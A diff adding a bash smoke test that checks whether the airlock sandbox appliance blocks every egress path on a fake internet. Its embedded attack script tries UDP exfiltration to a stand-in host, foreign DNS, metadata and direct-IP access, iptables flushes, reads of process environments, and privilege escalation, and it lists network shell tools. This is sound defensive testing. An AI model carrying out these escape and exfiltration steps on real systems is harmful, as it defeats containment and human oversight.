@@ -1,0 +1,177 @@
+#!/usr/bin/env bash
+# Docker smoke test: the appliance started exactly as docs/docker.md says (scripts/docker-run)
+# on a private network in front of a fake internet, the agent attacking every way out, and
+# tcpdump on the bridge proving that every packet the appliance sent belongs to a connection
+# the proxy made, is a DNS query for an allowed name, or is ARP/ND housekeeping.
+# Credential injection and git push items wait for issues 4 and 5.
+# Usage: sudo tests/smoke/egress.sh          (root: tcpdump, the audit volume on the host)
+source "$(dirname "$0")/lib.sh"
+smoke_sweep
+
+NET=$SMOKE_ID-net
+UP=$SMOKE_ID-up
+APP=$SMOKE_ID-app
+AUDIT=$SMOKE_ID-audit
+APP4=203.0.113.2
+APP6=2001:db8:113::2
+UP4=203.0.113.10
+UP6=2001:db8:113::10
+
+[ "${AIRLOCK_SMOKE_SKIP_BUILD:-}" = 1 ] || smoke_build_image
+fakenet=$(smoke_fakenet_bin)
+smoke_ca "$SMOKE_DIR"
+
+python3 - "$SMOKE_DIR" <<PY
+import json, sys
+d = sys.argv[1]
+json.dump({
+    "ca_cert_pem": open(f"{d}/ca.pem").read(), "ca_key_pem": open(f"{d}/ca.key").read(),
+    "log": "/log/fakenet.jsonl",
+    "http": [{"ip": "::", "port": 80}],
+    "https": [{"ip": "::", "port": 443, "names": ["allowed.test", "blocked.test"]}],
+    "dns": [{"ip": "::", "port": 53}],
+    "udp": [{"ip": "::", "port": 443}],
+    "zone": {"allowed.test": ["$UP4", "$UP6"], "blocked.test": ["$UP4"]},
+}, open(f"{d}/fakenet.json", "w"))
+PY
+cat >"$SMOKE_DIR/policy.toml" <<'TOML'
+[sandbox]
+name = "smoke"
+
+[network]
+allow = ["allowed.test"]
+deny = []
+TOML
+chmod 0644 "$SMOKE_DIR/policy.toml"
+mkdir -p "$SMOKE_DIR/log" "$SMOKE_DIR/repo"
+chown 1000:1000 "$SMOKE_DIR/repo"
+
+say "network $NET (internal, 203.0.113.0/24 and 2001:db8:113::/64), upstream $UP"
+track_network "$NET"
+docker network create --internal --subnet 203.0.113.0/24 --gateway 203.0.113.1 \
+    --ipv6 --subnet 2001:db8:113::/64 "$NET" >/dev/null
+track_container "$UP"
+docker run -d --name "$UP" --network "$NET" --ip "$UP4" --ip6 "$UP6" \
+    -v "$fakenet:/usr/local/bin/airlock-fakenet:ro" -v "$SMOKE_DIR:/cfg:ro" -v "$SMOKE_DIR/log:/log" \
+    airlock-base:bookworm airlock-fakenet /cfg/fakenet.json >/dev/null
+for _ in $(seq 50); do docker logs "$UP" 2>/dev/null | grep -q ready && break; sleep 0.1; done
+docker logs "$UP" 2>/dev/null | grep -q ready || die "fakenet did not start: $(docker logs "$UP" 2>&1 | tail -3)"
+
+BR=$(bridge_of "$NET")
+tcpdump -i "$BR" -nn -U --immediate-mode -w "$SMOKE_DIR/wire.pcap" 2>"$SMOKE_DIR/tcpdump.err" &
+track_pid $!
+for _ in $(seq 50); do grep -q listening "$SMOKE_DIR/tcpdump.err" && break; sleep 0.1; done
+grep -q listening "$SMOKE_DIR/tcpdump.err" || die "tcpdump did not start on $BR"
+
+# The agent's session: one line per item, KEY=VALUE.
+cat >"$SMOKE_DIR/repo/attack.sh" <<'SH'
+echo "started=$(date +%s%N)"
+C="curl -sS --max-time 10 --cacert /etc/ssl/fakenet-ca.pem"
+echo "https=$($C -o /dev/null -w '%{http_code}' https://allowed.test/)"
+echo "http=$($C -o /dev/null -w '%{http_code}' http://allowed.test/)"
+echo "transparent=$($C --noproxy '*' -o /dev/null -w '%{http_code}' https://allowed.test/)"
+echo "blocked=$($C -o /dev/null -w '%{http_code}' http://blocked.test/)"
+$C -f --noproxy '*' --connect-timeout 5 -o /dev/null https://blocked.test/ 2>/dev/null; echo "blocked_transparent=$?"
+$C -f --noproxy '*' --connect-timeout 5 -o /dev/null http://203.0.113.10/ 2>/dev/null; echo "direct=$?"
+$C -f --noproxy '*' --connect-timeout 5 -o /dev/null http://169.254.169.254/ 2>/dev/null; echo "meta=$?"
+$C -f -6 --noproxy '*' --connect-timeout 5 -o /dev/null 'http://[2001:db8:113::10]/' 2>/dev/null; echo "v6=$?"
+getent hosts blocked.test >/dev/null; echo "resolve_blocked=$?"
+# A raw DNS query for blocked.test straight to the upstream resolver (a foreign resolver).
+q='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07blocked\x04test\x00\x00\x01\x00\x01'
+( exec 3<>/dev/udp/203.0.113.10/53 && printf "$q" >&3 && timeout 3 head -c 4 <&3 | od -An -tx1 ) >/tmp/dns.out 2>&1
+echo "foreign_dns_answer=$(tr -d ' \n' </tmp/dns.out)"
+( exec 3<>/dev/udp/203.0.113.10/443 && printf 'exfil-udp' >&3 ); echo "udp_sent=$?"
+( exec 3<>/dev/udp6/2001:db8:113::10/443 && printf 'exfil-udp6' >&3 ) 2>/dev/null; echo "udp6_sent=$?"
+ping -c1 -W2 203.0.113.10 >/dev/null 2>&1; echo "ping=$?"
+ping -6 -c1 -W2 2001:db8:113::10 >/dev/null 2>&1; echo "ping6=$?"
+iptables -F 2>/dev/null; echo "iptables_flush=$?"
+/usr/sbin/iptables-nft -t nat -F 2>/dev/null; echo "iptables_nat_flush=$?"
+cat /proc/1/environ >/dev/null 2>&1; echo "pid1_environ=$?"
+pid=$(pgrep -u airlock airlock-proxy | head -1); cat "/proc/$pid/environ" >/dev/null 2>&1; echo "proxy_environ=$?"
+cat /var/log/airlock/audit.jsonl >/dev/null 2>&1; echo "audit_read=$?"
+sudo id >/dev/null 2>&1; echo "sudo=$?"
+su -c id root </dev/null >/dev/null 2>&1; echo "su=$?"
+echo "setuid=$(find / -xdev -type f -perm /6000 2>/dev/null | wc -l)"
+for t in wget nc ncat netcat socat sudo; do command -v "$t"; done | wc -l | sed 's/^/forbidden_tools=/'
+touch /workspace/written-by-agent; echo "workspace_write=$?"
+touch /home/agent/x; echo "home_write=$?"
+touch /etc/x 2>/dev/null; echo "rootfs_write=$?"
+echo "id=$(id -u):$(id -g):$(id -G)"
+grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t' | tr ':' '=' 
+SH
+chmod 0755 "$SMOKE_DIR/repo/attack.sh"
+
+say "starting the appliance as docs/docker.md says (scripts/docker-run)"
+track_volume "$AUDIT"
+track_container "$APP"
+t0=$(date +%s%N)
+AIRLOCK_NO_BUILD=1 AIRLOCK_IMAGE=$SMOKE_IMAGE AIRLOCK_POLICY=$SMOKE_DIR/policy.toml \
+AIRLOCK_AUDIT_VOLUME=$AUDIT \
+AIRLOCK_DOCKER_ARGS="--name $APP --network $NET --ip $APP4 --ip6 $APP6 --dns $UP4 -v $SMOKE_DIR/ca.pem:/etc/ssl/fakenet-ca.pem:ro" \
+    "$SMOKE_ROOT/scripts/docker-run" "$SMOKE_DIR/repo" -- bash /workspace/attack.sh \
+    >"$SMOKE_DIR/agent.out" 2>"$SMOKE_DIR/agent.err" || true
+sleep 0.5
+kill "${_smoke_pids[0]}" 2>/dev/null; wait "${_smoke_pids[0]}" 2>/dev/null || true
+out=$(cat "$SMOKE_DIR/agent.out")
+get() { sed -n "s/^$1=//p" <<<"$out" | head -1; }
+if [ -z "$(get started)" ]; then
+    cat "$SMOKE_DIR/agent.err" >&2
+    die "the agent never ran"
+fi
+
+say "agent session"
+check "allowed HTTPS through the explicit proxy: 200" [ "$(get https)" = 200 ]
+check "allowed HTTP through the explicit proxy: 200" [ "$(get http)" = 200 ]
+check "allowed HTTPS without proxy variables (transparent): 200" [ "$(get transparent)" = 200 ]
+check "blocked host: 403" [ "$(get blocked)" = 403 ]
+nonzero() { local v; v=$(get "$1"); [ -n "$v" ] && [ "$v" != 0 ] && [ "$v" != 127 ]; }
+for item in blocked_transparent direct meta v6 resolve_blocked ping ping6 iptables_flush \
+    iptables_nat_flush pid1_environ proxy_environ audit_read su rootfs_write; do
+    check "$item fails ($(get "$item"))" nonzero "$item"
+done
+check "sudo is absent ($(get sudo))" [ "$(get sudo)" = 127 ]
+ran() { [ -n "$(get udp_sent)" ] && [ -n "$(get udp6_sent)" ]; }
+check "UDP datagrams attempted (v4 $(get udp_sent), v6 $(get udp6_sent); the wire check proves none left)" ran
+# The raw query is answered by airlock's DNS filter (REFUSED, rcode 5 in byte 4), never upstream.
+ans=$(get foreign_dns_answer)
+refused() { [ "${ans:0:4}" = 1234 ] && [ "${ans:7:1}" = 5 ]; }
+check "foreign DNS answered by airlock's filter, REFUSED ($ans)" refused
+check "no setuid/setgid file in the image ($(get setuid))" [ "$(get setuid)" = 0 ]
+check "no sudo, wget, nc, socat ($(get forbidden_tools))" [ "$(get forbidden_tools)" = 0 ]
+writes() { [ "$(get workspace_write)" = 0 ] && [ "$(get home_write)" = 0 ]; }
+check "agent writes its workspace and home" writes
+check "agent is 1000:1000 with no other group ($(get id))" [ "$(get id)" = "1000:1000:1000" ]
+unprivileged() {
+    [ "$(get CapEff)" = 0000000000000000 ] && [ "$(get CapBnd)" = 0000000000000000 ] &&
+        [ "$(get NoNewPrivs)" = 1 ] && [ "$(get Seccomp)" = 2 ]
+}
+check "agent has no capabilities, no_new_privs, seccomp filter" unprivileged
+
+say "upstream and the audit log"
+ulog="$SMOKE_DIR/log/fakenet.jsonl"
+check "upstream saw the allowed requests" grep -q '"kind":"http"' "$ulog"
+check "upstream saw no UDP datagram" bash -c "! grep -q '\"kind\":\"udp\"' '$ulog'"
+check "upstream saw nothing about blocked.test" bash -c "! grep -q 'blocked' '$ulog'"
+audit="$(volume_path "$AUDIT")/audit.jsonl"
+check "audit log has the denials with reasons" grep -q '"reason":"blocked-by-policy"' "$audit"
+proxy_uid=$(docker run --rm --network none --entrypoint id "$SMOKE_IMAGE" -u airlock)
+check "audit log is the proxy's (uid $proxy_uid), 0600" [ "$(stat -c '%u %a' "$audit")" = "$proxy_uid 600" ]
+
+say "wire (tcpdump on $BR)"
+tcpdump -nn -r "$SMOKE_DIR/wire.pcap" 2>/dev/null >"$SMOKE_DIR/wire.txt"
+if python3 "$SMOKE_ROOT/tests/smoke/wire_check.py" "$audit" allowed.test "$APP4" "$APP6" \
+    <"$SMOKE_DIR/wire.txt"; then
+    pass "every packet from the appliance is the proxy's, an allowed DNS query or housekeeping"
+else
+    fail "a packet left the appliance that the proxy did not send"
+fi
+
+ready=$(grep -o 'ready in [0-9]* ms' "$SMOKE_DIR/agent.err" | head -1)
+started=$(get started)
+say "timing: entrypoint $ready; docker run -> agent exec $(((started - t0) / 1000000)) ms"
+if [ "$SMOKE_FAILS" -ne 0 ]; then
+    say "agent output:"; cat "$SMOKE_DIR/agent.out" >&2
+    say "entrypoint stderr (last 30 lines):"; grep -v ' INFO ' "$SMOKE_DIR/agent.err" | tail -30 >&2
+    die "$SMOKE_FAILS check(s) failed"
+fi
+say "egress: all checks passed"
